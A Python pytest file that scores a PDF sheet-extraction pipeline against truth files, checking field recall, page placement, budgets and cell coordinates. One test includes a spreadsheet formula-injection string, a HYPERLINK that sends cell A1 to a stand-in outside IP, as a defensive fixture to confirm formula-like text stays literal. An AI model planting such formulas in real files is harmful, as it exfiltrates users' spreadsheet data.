"""Performance sheets of whole documents, field by field against their truth files."""

from __future__ import annotations

from decimal import Decimal
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
from score import Tally, load_truth, score_sheets
from score.tally import added
from score.truth import read_truth

from assets.extract.document import extract_document
from assets.frames import Frames
from assets.parse.sheets import parse_sheets

SAMPLES = Path(__file__).parents[1] / "samples"
#: A text layer and its truth, by file: what stands beside each other in the visible corpus.
VISIBLE = [
    *(f"batch-1/a{number:02}" for number in (1, 2, 3, 4, 7, 8, 9, 10, 11, 12)),
    *(f"batch-2/a{number}" for number in (13, 14)),
]


@lru_cache(maxsize=4)
def sheets_of(pdf: Path) -> Frames:
    return parse_sheets(extract_document(pdf, pdf.stem))


def score_of(got: Frames, truth: dict[str, Any]) -> Tally:
    """The fields of projects and indicators together."""
    return added(score_sheets(truth, got["projects"].to_dicts(), got["indicators"].to_dicts()))


@pytest.mark.parametrize("name", sorted(path.stem for path in SAMPLES.glob("*.pdf")))
def test_samples(name: str) -> None:
    pdf = SAMPLES / f"{name}.pdf"
    score = score_of(sheets_of(pdf), load_truth(pdf))
    assert score.expected > 300
    assert not score.differences
    # A truth file names the first page of its sheet on which an indicator's words occur.
    assert score.in_place > 0.93, score.misplaced


@pytest.mark.corpus
@pytest.mark.parametrize("name", VISIBLE)
def test_visible(corpus: Path, name: str) -> None:
    pdf = corpus / "visible" / f"{name}.pdf"
    score = score_of(sheets_of(pdf), load_truth(pdf))
    assert score.expected > 300
    assert not score.differences
    assert score.in_place > 0.93, score.misplaced


@pytest.mark.corpus
def test_text_like_code_is_kept_as_it_is_printed(corpus: Path) -> None:
    hostile = corpus / "visible" / "hostile"
    score = score_of(sheets_of(hostile / "formula.pdf"), read_truth(hostile / "06.truth.json"))
    assert min(score.recall, score.precision) > 0.995, score.differences
    names = sheets_of(hostile / "formula.pdf")["projects"]["project_name"].to_list()
    assert '=HYPERLINK("http://203.0.113.9/?q="&A1,"点击查看")' in names


@pytest.mark.corpus
def test_seed(corpus: Path) -> None:
    seed = corpus / "seed"
    truth = read_truth(seed / "seed.truth.json")
    got = sheets_of(seed / "seed-writer.pdf")
    score = score_of(got, truth)
    assert (got["projects"].height, got["indicators"].height) == (36, 243)
    assert score.expected > 2300
    assert not score.differences
    assert score.in_place > 0.97, score.misplaced


@pytest.mark.corpus
def test_seed_budget_printed_with_two_figures(corpus: Path) -> None:
    projects = sheets_of(corpus / "seed" / "seed-writer.pdf")["projects"].to_dicts()
    doubled = [row for row in projects if row["budget_figures"] != 1]
    assert [(row["budget"], row["budget_alternatives"]) for row in doubled] == [
        (Decimal(294000), [Decimal(274000)])
    ]
    assert all(row["precision"] == Decimal(100) for row in projects)
    assert all(row["prepared_by"] for row in projects)


def test_every_figure_keeps_its_cell(samples: Path) -> None:
    got = sheets_of(samples / "a09.pdf")
    for row in got["projects"].to_dicts():
        assert row["page_from"] <= row["budget_page"] <= row["page_to"]
        assert row["x0"] < row["x1"] and row["y0"] < row["y1"]
    assert got["indicators"]["x0"].null_count() == 0
